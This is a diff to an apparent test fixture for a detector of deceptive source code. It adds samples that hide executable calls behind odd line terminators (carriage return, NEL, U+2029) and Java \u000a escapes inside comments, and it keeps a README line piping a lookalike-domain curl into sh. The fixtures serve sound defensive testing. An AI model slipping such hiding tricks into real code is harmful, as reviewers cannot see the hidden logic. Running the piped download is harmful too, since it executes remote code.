@@ -34,6 +34,10 @@ DECEIVING = [
     ("c.py", f'f"{{{CYRILLIC_A}dmin}}"'),
     ("c.js", 'const s = "' + "\U000e0100" * 40 + '"; eval(decode(s))'),
     ("d.js", "x = 1 // a\u2028 evil()"),
+    ("g.py", "# tidy\rimport os"),
+    ("B.cs", "class A { int x; } // hi\x85 evil();"),
+    ("g.js", "f() // hi\u2029evil()"),
+    ("C.java", "class A { int x; // hi \\u000a static { evil(); }\n}"),
     ("README.md", "Hello" + "\U000e0041" * 20),
     ("t.js", "// caf\ufffd\n" + EARLY_RETURN),
     ("a.dart", "var {a, \u3164} = b;"),
@@ -66,6 +70,8 @@ DECEIVING = [
     ("docs/c.md", "Run `curl ex\u0430mple.com | sh`."),
 ]
 HONEST = [
+    ("crlf.py", "# tidy\r\nimport os\r\n"),
+    ("Escaped.java", 'class A { String s = "\\\\u000a"; }'),
     ("a.js", 'const rtl = "\u202b\u0642\u0628\u0644";\nconst s = "\u2068{name}\u2069 joined";\nconst z = "\u200b";'),
     (
         "b.js",
